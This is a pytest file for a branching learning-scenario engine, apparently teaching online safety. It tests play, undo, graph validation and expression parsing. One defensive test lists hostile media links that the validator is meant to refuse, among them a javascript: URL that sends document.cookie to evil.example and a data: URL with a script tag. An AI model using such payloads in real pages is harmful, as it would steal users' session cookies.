"""The pure scenario engine: playing and validating graphs (no database)."""

import dataclasses
from collections import deque

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scenarios.engine import (
    SKIP,
    Choice,
    ChoiceNotAvailable,
    Condition,
    Effect,
    Graph,
    Node,
    NothingToUndo,
    Op,
    Outcome,
    ScenarioFinished,
    StaleChoice,
    Variable,
    available_choices,
    can_skip,
    choose,
    skip,
    start,
    step_back,
    validate,
)
from scenarios.engine.graph import parse_value


def small_graph(**overrides) -> Graph:
    """start -> (report -> good) | (share -> poor); reporting sets `reported`."""
    nodes = {
        "start": Node(
            id="start",
            text="A friend shows you a post.",
            choices=(
                Choice(
                    "report",
                    "Report it",
                    "reported",
                    feedback="Good call.",
                    score=2,
                    effects=(Effect("reported", True),),
                ),
                Choice("share", "Share it", "shared", feedback="It spreads.", score=-1),
            ),
        ),
        "reported": Node(
            id="reported",
            text="You reported it.",
            choices=(
                Choice(
                    "tell",
                    "Tell a teacher",
                    "good",
                    conditions=(Condition("reported", Op.EQ, True),),
                ),
                Choice("ignore", "Leave it", "mixed"),
            ),
        ),
        "shared": Node(id="shared", text="It spread.", choices=(Choice("oops", "Oh no", "poor"),)),
        "good": Node(id="good", text="Well done.", outcome=Outcome.GOOD, debrief="You helped."),
        "mixed": Node(id="mixed", text="Hmm.", outcome=Outcome.MIXED, debrief="Tell someone."),
        "poor": Node(id="poor", text="Bad.", outcome=Outcome.POOR, debrief="Sharing hurts."),
    }
    nodes.update(overrides.pop("nodes", {}))
    return Graph(
        start=overrides.pop("start", "start"),
        nodes=tuple(n for n in nodes.values() if n is not None),
        variables=overrides.pop("variables", (Variable("reported", False),)),
    )


def warned_node(**fields) -> Node:
    """small_graph's "shared" node behind a content warning; skipping it leads to "mixed"."""
    return Node(
        **{
            "id": "shared",
            "text": "Something upsetting.",
            "content_warning": "Mentions bullying.",
            "skip_to": "mixed",
            "choices": (Choice("oops", "Oh no", "poor"),),
            **fields,
        }
    )


# --- playing ---


def test_start_puts_the_learner_on_the_start_node_with_initial_variables():
    state = start(small_graph())
    assert state.node_id == "start"
    assert state.vars == {"reported": False}
    assert state.score == 0 and state.path == () and not state.finished


def test_choosing_moves_applies_effects_score_and_records_the_path():
    graph = small_graph()
    step = choose(graph, start(graph), "report", from_node="start")
    assert step.node.id == "reported"
    assert step.feedback == "Good call."
    assert step.state.vars["reported"] is True
    assert step.state.score == 2
    assert step.state.path == (("start", "report"),)


def test_conditions_decide_which_choices_are_offered():
    graph = small_graph()
    state = choose(graph, start(graph), "report", from_node="start").state
    assert [c.id for c in available_choices(graph, state)] == ["tell", "ignore"]
    hidden = state.__class__(node_id="reported", variables=(("reported", False),))
    assert [c.id for c in available_choices(graph, hidden)] == ["ignore"]
    with pytest.raises(ChoiceNotAvailable):
        choose(graph, hidden, "tell", from_node="reported")


def test_choice_from_another_node_is_rejected():
    graph = small_graph()
    state = choose(graph, start(graph), "report", from_node="start").state
    with pytest.raises(StaleChoice):
        choose(graph, state, "report", from_node="start")


def test_reaching_an_ending_finishes_and_no_more_choices_are_accepted():
    graph = small_graph()
    state = choose(graph, start(graph), "share", from_node="start").state
    step = choose(graph, state, "oops", from_node="shared")
    assert step.ended and step.node.outcome == Outcome.POOR
    assert available_choices(graph, step.state) == []
    with pytest.raises(ScenarioFinished):
        choose(graph, step.state, "oops", from_node="poor")


def test_unknown_choice_is_rejected():
    graph = small_graph()
    with pytest.raises(ChoiceNotAvailable):
        choose(graph, start(graph), "nope", from_node="start")


def test_skipping_a_warned_node_moves_on_without_changing_the_score():
    warned = Node(
        id="shared",
        text="Something upsetting.",
        content_warning="Mentions bullying.",
        skip_to="mixed",
        choices=(Choice("oops", "Oh no", "poor"),),
    )
    graph = small_graph(nodes={"shared": warned})
    state = choose(graph, start(graph), "share", from_node="start").state
    assert can_skip(graph, state)
    step = skip(graph, state, from_node="shared")
    assert step.skipped and step.node.id == "mixed"
    assert step.state.score == state.score
    assert step.state.path[-1] == ("shared", SKIP)


def test_a_node_without_a_warning_cannot_be_skipped():
    graph = small_graph()
    with pytest.raises(ChoiceNotAvailable):
        skip(graph, start(graph), from_node="start")


def test_graph_and_state_survive_a_round_trip_through_plain_data():
    graph = small_graph()
    assert Graph.from_dict(graph.to_dict()) == graph
    state = choose(graph, start(graph), "report", from_node="start").state
    assert state.__class__.from_dict(state.to_dict()) == state


@pytest.mark.parametrize(
    ("text", "value"),
    [("true", True), ("False", False), ("3", 3), ("-2", -2), ('"hi"', "hi"), ("word", "word")],
)
def test_values_are_parsed_from_author_text(text, value):
    assert parse_value(text) == value


@pytest.mark.parametrize(
    ("op", "current", "value", "holds"),
    [
        (Op.EQ, 1, 1, True),
        (Op.NE, 1, 1, False),
        (Op.LT, 1, 2, True),
        (Op.LE, 2, 2, True),
        (Op.GT, 2, 2, False),
        (Op.GE, 3, 2, True),
        (Op.LT, "a", 2, False),
    ],
)
def test_conditions_compare_the_current_value(op, current, value, holds):
    assert Condition("x", op, value).holds({"x": current}) is holds


def _told_graph(*, initial, sets, when) -> Graph:
    """start -(tell: told = `sets`)-> after -(on, only when `when`)-> good; -(off)-> mixed."""
    return Graph(
        start="start",
        variables=(Variable("told", initial),),
        nodes=(
            Node(
                "start",
                "Someone messages you.",
                choices=(
                    Choice("tell", "Tell an adult", "after", effects=(Effect("told", sets),)),
                ),
            ),
            Node(
                "after",
                "What next?",
                choices=(
                    Choice("on", "Carry on", "good", conditions=(when,)),
                    Choice("off", "Leave it", "mixed"),
                ),
            ),
            Node("good", "Well done.", outcome=Outcome.GOOD),
            Node("mixed", "Hmm.", outcome=Outcome.MIXED),
        ),
    )


@pytest.mark.parametrize(
    ("initial", "sets", "when", "refused"),
    [
        (False, True, Condition("told", Op.EQ, 1), True),
        (0, 1, Condition("told", Op.EQ, True), True),
        (False, 1, Condition("told", Op.GE, 1), True),
        (0, True, Condition("told", Op.EQ, True), True),
        ("", "yes", Condition("told", Op.EQ, 1), True),
        (False, True, Condition("told", Op.EQ, True), False),
        (0, 2, Condition("told", Op.GE, 1), False),
        # Text set where true was meant is reported as the node it keeps learners from.
        (False, "true", Condition("told", Op.EQ, True), False),
    ],
)
def test_a_condition_comparing_true_or_false_with_a_number_is_refused(initial, sets, when, refused):
    """Values are true/false, whole numbers or text (docs/twee.md), yet Python has True == 1:
    a variable set to true met `== 1`. Publishing such a comparison is refused instead."""
    issues = [
        (i.node_id, i.code) for i in validate(_told_graph(initial=initial, sets=sets, when=when))
    ]
    assert (("after", "mixed_kinds") in issues) is refused


def test_the_mixed_kinds_message_says_what_the_variable_is_set_to():
    graph = _told_graph(initial=False, sets=True, when=Condition("told", Op.EQ, 1))
    assert [i.message for i in validate(graph)] == [
        "The choice “Carry on” in “after” is offered when “told == 1”, but “told” is set to "
        "true or false. True and false are not numbers, nor is text: compare a variable only "
        "with values of the one kind it is set to."
    ]


# --- validation, table-driven ---


def _codes(graph: Graph) -> set[str]:
    return {issue.code for issue in validate(graph)}


def _nodes(*nodes: Node) -> dict[str, Node]:
    return {n.id: n for n in nodes}


INVALID = [
    pytest.param(
        small_graph(nodes=_nodes(Node("shared", "x", choices=(Choice("oops", "Oh", "nowhere"),)))),
        "unknown_target",
        "shared",
        id="unknown target",
    ),
    pytest.param(
        small_graph(nodes=_nodes(Node("island", "alone", outcome=Outcome.GOOD))),
        "unreachable",
        "island",
        id="unreachable node",
    ),
    pytest.param(
        small_graph(nodes=_nodes(Node("shared", "stuck"))),
        "dead_end",
        "shared",
        id="non-ending without choices",
    ),
    pytest.param(
        Graph(
            start="a",
            nodes=(
                Node("a", "A", choices=(Choice("go", "Go", "b"),)),
                Node("b", "B", choices=(Choice("back", "Back", "a"),)),
            ),
        ),
        "no_ending",
        None,
        id="no reachable ending",
    ),
    pytest.param(
        small_graph(variables=()),
        "undeclared_variable",
        "start",
        id="effect or condition on an undeclared variable",
    ),
    pytest.param(
        small_graph(
            nodes=_nodes(
                Node(
                    "shared",
                    "x",
                    choices=(
                        Choice("a", "A", "poor", conditions=(Condition("reported", Op.EQ, True),)),
                    ),
                )
            )
        ),
        "all_hidden",
        "shared",
        id="every choice can be hidden",
    ),
    pytest.param(
        small_graph(
            nodes=_nodes(
                Node("shared", "loop", choices=(Choice("on", "On", "loop2"),)),
                Node(
                    "loop2",
                    "loop",
                    choices=(
                        Choice("back", "Back", "shared"),
                        # Only reporters can leave, and nobody on this path has reported.
                        Choice(
                            "out", "Out", "poor", conditions=(Condition("reported", Op.EQ, True),)
                        ),
                    ),
                ),
            )
        ),
        "no_way_out",
        "shared",
        id="cycle with no way out",
    ),
    pytest.param(
        small_graph(start="missing"),
        "unknown_start",
        None,
        id="missing start",
    ),
    pytest.param(
        small_graph(
            nodes=_nodes(
                Node("poor", "Bad", outcome=Outcome.POOR, choices=(Choice("x", "X", "start"),))
            )
        ),
        "ending_with_choices",
        "poor",
        id="ending with choices",
    ),
    pytest.param(
        small_graph(
            nodes=_nodes(
                Node(
                    "shared",
                    "x",
                    content_warning="Upsetting",
                    choices=(Choice("oops", "Oh", "poor"),),
                )
            )
        ),
        "warning_without_skip",
        "shared",
        id="content warning without a skip target",
    ),
    pytest.param(
        small_graph(
            nodes=_nodes(
                Node("shared", "x", choices=(Choice("a", "A", "poor"), Choice("a", "B", "poor")))
            )
        ),
        "duplicate_choice",
        "shared",
        id="duplicate choice ids",
    ),
    pytest.param(Graph(start="a", nodes=()), "empty", None, id="empty"),
    pytest.param(
        Graph(start="end", nodes=(Node("end", "Done.", outcome=Outcome.GOOD),)),
        "start_is_ending",
        "end",
        id="start that is an ending (no choice made, never completed)",
    ),
]


@pytest.mark.parametrize(("graph", "code", "node_id"), INVALID)
def test_validation_finds_the_problem_and_names_the_node(graph, code, node_id):
    issues = [i for i in validate(graph) if i.code == code]
    assert issues, validate(graph)
    assert issues[0].node_id == node_id
    assert issues[0].message and "{" not in issues[0].message


def test_a_sound_graph_has_no_issues():
    assert validate(small_graph()) == []


def test_a_cycle_with_a_way_out_is_fine():
    graph = small_graph(
        nodes=_nodes(
            Node("shared", "loop", choices=(Choice("on", "On", "loop2"),)),
            Node(
                "loop2",
                "loop",
                choices=(Choice("back", "Back", "shared"), Choice("out", "Out", "poor")),
            ),
        )
    )
    assert validate(graph) == []


def test_a_loop_that_sets_a_variable_to_unlock_the_exit_is_fine():
    graph = Graph(
        start="a",
        variables=(Variable("asked", False),),
        nodes=(
            Node(
                "a",
                "A",
                choices=(
                    Choice("ask", "Ask", "a", effects=(Effect("asked", True),)),
                    Choice("leave", "Leave", "end", conditions=(Condition("asked", Op.EQ, True),)),
                ),
            ),
            Node("end", "End", outcome=Outcome.GOOD),
        ),
    )
    assert validate(graph) == []


# --- validation, property-based ---

VARS = ("a", "b")


def test_stepping_back_restores_the_state_before_the_last_step():
    graph = small_graph()
    first = start(graph)
    reported = choose(graph, first, "report", from_node="start").state
    ended = choose(graph, reported, "tell", from_node="reported").state
    assert step_back(graph, ended) == reported  # node, variables, score, path; not finished
    assert step_back(graph, reported) == first
    with pytest.raises(NothingToUndo):
        step_back(graph, first)


def test_stepping_back_over_a_skip_and_to_a_skip():
    graph = small_graph(nodes={"shared": warned_node(skip_to="reported")})
    shared = choose(graph, start(graph), "share", from_node="start").state
    skipped = skip(graph, shared, from_node="shared").state  # to "reported", no score
    ended = choose(graph, skipped, "ignore", from_node="reported").state
    assert step_back(graph, ended) == skipped  # the skip is played again
    assert step_back(graph, skipped) == shared


@st.composite
def graphs(draw) -> Graph:
    size = draw(st.integers(min_value=2, max_value=7))
    ids = [f"n{i}" for i in range(size)]
    endings = set(draw(st.lists(st.sampled_from(ids[1:]), min_size=0, max_size=3)))
    values = st.sampled_from([True, False, 0, 1, 2])
    nodes = []
    for node_id in ids:
        if node_id in endings:
            nodes.append(Node(node_id, node_id, outcome=draw(st.sampled_from(list(Outcome)))))
            continue
        count = draw(st.integers(min_value=0, max_value=3))
        choices = []
        for index in range(count):
            effects = tuple(
                Effect(v, draw(values))
                for v in draw(st.lists(st.sampled_from(VARS), max_size=1, unique=True))
            )
            conditions = tuple(
                Condition(v, draw(st.sampled_from([Op.EQ, Op.NE, Op.GE])), draw(values))
                for v in draw(st.lists(st.sampled_from(VARS), max_size=1, unique=True))
            )
            choices.append(
                Choice(
                    f"c{index}",
                    f"choice {index}",
                    draw(st.sampled_from(ids)),
                    score=draw(st.integers(-2, 2)),
                    effects=effects,
                    conditions=conditions,
                )
            )
        nodes.append(Node(node_id, node_id, choices=tuple(choices)))
    return Graph(
        start="n0",
        nodes=tuple(nodes),
        variables=tuple(Variable(v, draw(values)) for v in VARS),
    )


def _reachable_states(graph: Graph):
    """Every state (ignoring score and path) a learner can get into, using only play()."""
    first = start(graph)
    seen = {(first.node_id, first.variables): first}
    queue = deque([first])
    while queue:
        state = queue.popleft()
        for choice in available_choices(graph, state):
            nxt = choose(graph, state, choice.id, from_node=state.node_id).state
            key = (nxt.node_id, nxt.variables)
            if key not in seen:
                seen[key] = nxt
                queue.append(nxt)
    return seen


def _ending_reachable_from(graph: Graph, state) -> bool:
    seen = {(state.node_id, state.variables)}
    queue = deque([state])
    while queue:
        current = queue.popleft()
        if current.finished:
            return True
        for choice in available_choices(graph, current):
            nxt = choose(graph, current, choice.id, from_node=current.node_id).state
            key = (nxt.node_id, nxt.variables)
            if key not in seen:
                seen.add(key)
                queue.append(nxt)
    return False


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(graphs())
def test_every_valid_graph_lets_a_learner_reach_an_ending_from_every_reachable_state(graph):
    if validate(graph):
        return
    for state in _reachable_states(graph).values():
        assert _ending_reachable_from(graph, state)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(graphs())
def test_a_graph_that_traps_a_learner_never_validates(graph):
    structurally_sound = not {
        i.code for i in validate(graph) if i.code not in ("all_hidden", "no_way_out", "no_ending")
    }
    if not structurally_sound:
        return
    trapped = any(not _ending_reachable_from(graph, s) for s in _reachable_states(graph).values())
    if trapped:
        assert validate(graph)


@settings(max_examples=200, deadline=None)
@given(graphs())
def test_validation_never_crashes_and_every_issue_has_words(graph):
    for issue in validate(graph):
        assert issue.message.strip()
        assert issue.node_id is None or graph.node(issue.node_id) is not None


def test_a_picture_needs_a_description_for_learners_who_cannot_see_it():
    start = small_graph().node("start")
    undescribed = small_graph(
        nodes={"start": dataclasses.replace(start, image_id=7, image_alt=" ")}
    )
    described = small_graph(
        nodes={"start": dataclasses.replace(start, image_id=7, image_alt="A privacy menu")}
    )

    assert [(i.node_id, i.code) for i in validate(undescribed)] == [("start", "image_without_alt")]
    assert validate(described) == []
    assert Graph.from_dict(described.to_dict()) == described


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(graphs(), st.lists(st.integers(min_value=0, max_value=5), min_size=1, max_size=8))
def test_a_step_taken_and_taken_back_leaves_the_state_as_it_was(graph, picks):
    """On any graph, after any walk, undoing the last step gives the state before it."""
    states = [start(graph)]
    for pick in picks:
        offered = available_choices(graph, states[-1])
        if not offered:
            break
        choice = offered[pick % len(offered)]
        states.append(choose(graph, states[-1], choice.id, from_node=states[-1].node_id).state)
    for later, earlier in zip(reversed(states[1:]), reversed(states[:-1]), strict=True):
        assert step_back(graph, later) == earlier


@pytest.mark.parametrize(
    ("media", "refused"),
    [
        ("https://video.example/settings.mp4", False),
        ("HTTP://video.example/a", False),
        ("javascript:fetch('//evil.example/?'+document.cookie)", True),
        (" JavaScript:alert(1)", True),
        ("data:text/html,<script>alert(1)</script>", True),
        ("video.example/settings.mp4", True),
    ],
)
def test_media_must_be_a_web_link(media, refused):
    """The player links to it: `javascript:` would run in the learner's page."""
    start = small_graph().node("start")
    graph = small_graph(nodes={"start": dataclasses.replace(start, media=media)})
    codes = [(i.node_id, i.code) for i in validate(graph)]
    assert codes == ([("start", "media_not_a_link")] if refused else [])


@pytest.mark.parametrize(
    ("score", "refused"), [(1000, False), (-1000, False), (1001, True), (-(2**63), True)]
)
def test_a_choice_moves_the_score_by_at_most_a_thousand(score, refused):
    """The running score is each statement's result.score.raw, which LRSs read as a double."""
    start = small_graph().node("start")
    choice = dataclasses.replace(start.choices[0], score=score)
    graph = small_graph(
        nodes={"start": dataclasses.replace(start, choices=(choice, *start.choices[1:]))}
    )
    issues = validate(graph)
    assert [(i.node_id, i.code, i.choice, i.beside) for i in issues] == (
        [("start", "score_out_of_range", 0, "score")] if refused else []
    )


def test_quoted_text_may_hold_commas_semicolons_and_the_word_and():
    from scenarios.engine.expressions import (
        format_conditions,
        format_effects,
        parse_conditions,
        parse_effects,
    )

    effects = parse_effects('said = "No, thanks; bye", told = true')
    assert [(e.variable, e.value) for e in effects] == [("said", "No, thanks; bye"), ("told", True)]
    conditions = parse_conditions('said == "salt and pepper" and told == true')
    assert [(c.variable, c.value) for c in conditions] == [
        ("said", "salt and pepper"),
        ("told", True),
    ]
    assert parse_effects(format_effects(effects)) == effects
    assert parse_conditions(format_conditions(conditions)) == conditions


def test_variables_no_condition_reads_do_not_make_a_scenario_too_big_to_check():
    """Fifteen yes/no questions, each answer kept, only the first ever read: 2**15 answer
    combinations, but the same few things a learner can do."""
    nodes = [
        Node(
            f"q{i}",
            f"Question {i}",
            choices=(
                Choice(f"q{i}-yes", "Yes", f"q{i + 1}", effects=(Effect(f"a{i}", True),)),
                Choice(f"q{i}-no", "No", f"q{i + 1}", effects=(Effect(f"a{i}", False),)),
            ),
        )
        for i in range(15)
    ]
    nodes.append(
        Node(
            "q15",
            "Results",
            choices=(
                Choice("good", "See", "good", conditions=(Condition("a0", Op.EQ, True),)),
                Choice("poor", "See", "poor", conditions=(Condition("a0", Op.EQ, False),)),
            ),
        )
    )
    nodes += [Node("good", "x", outcome=Outcome.GOOD), Node("poor", "y", outcome=Outcome.POOR)]
    graph = Graph(
        start="q0",
        nodes=tuple(nodes),
        variables=tuple(Variable(f"a{i}", False) for i in range(15)),
    )
    assert validate(graph) == []


def test_a_node_only_conditions_that_never_hold_lead_to_is_reported():
    """Setting the text "true" where the condition wants the value true is an easy slip: the
    good ending is linked to, but no learner can ever reach it."""
    start = small_graph().node("start")
    report = dataclasses.replace(start.choices[0], effects=(Effect("reported", "true"),))
    graph = small_graph(
        nodes={"start": dataclasses.replace(start, choices=(report, start.choices[1]))}
    )
    assert [(i.node_id, i.code) for i in validate(graph)] == [("good", "never_reached")]


@pytest.mark.parametrize(
    "parse, text",
    [
        ("conditions", "told == true or warned == true"),
        ("conditions", "told == true || warned == true"),
        ("conditions", "warnings >= 2 > 1"),
        ("effects", "told = true and warned = true"),
        ("effects", "told = true && warned = true"),
        ("effects", "warnings == 2"),
    ],
)
def test_what_reads_as_two_expressions_in_one_is_refused_not_taken_as_text(parse, text):
    """Unquoted, `told == true or warned == true` was read as `told` compared with the text
    "true or warned == true", which never holds: the choice was silently never offered."""
    from scenarios.engine.expressions import ExpressionError, parse_conditions, parse_effects

    with pytest.raises(ExpressionError):
        (parse_conditions if parse == "conditions" else parse_effects)(text)


@pytest.mark.parametrize(
    ("text", "condition"),
    [
        ("status is notified", Condition("status", Op.EQ, "notified")),
        ("told is nothing", Condition("told", Op.EQ, "nothing")),
        ("status is not notified", Condition("status", Op.NE, "notified")),
        ("status is  not  notified", Condition("status", Op.NE, "notified")),
        ("told is true", Condition("told", Op.EQ, True)),
    ],
)
def test_is_and_is_not_are_read_as_whole_words(text, condition):
    """`status is notified` was read as `status is not` the text "ified": the choice was
    offered exactly when the author meant it hidden."""
    from scenarios.engine.expressions import parse_conditions

    assert parse_conditions(text) == (condition,)


def test_an_effect_without_its_equals_sign_is_refused_not_read_inside_a_word():
    """`mood tomorrow` was read as `mood to` the text "morrow"."""
    from scenarios.engine.expressions import ExpressionError, parse_effects

    assert parse_effects("told to true") == (Effect("told", True),)
    with pytest.raises(ExpressionError):
        parse_effects("mood tomorrow")


def test_unquoted_text_values_still_work():
    from scenarios.engine.expressions import parse_conditions, parse_effects

    assert parse_conditions("mood == happy")[0].value == "happy"
    assert parse_effects("mood = fed up!")[0].value == "fed up!"
    assert parse_effects("ate = fish & chips")[0].value == "fish & chips"
    assert parse_conditions('said == "a or b = c"')[0].value == "a or b = c"
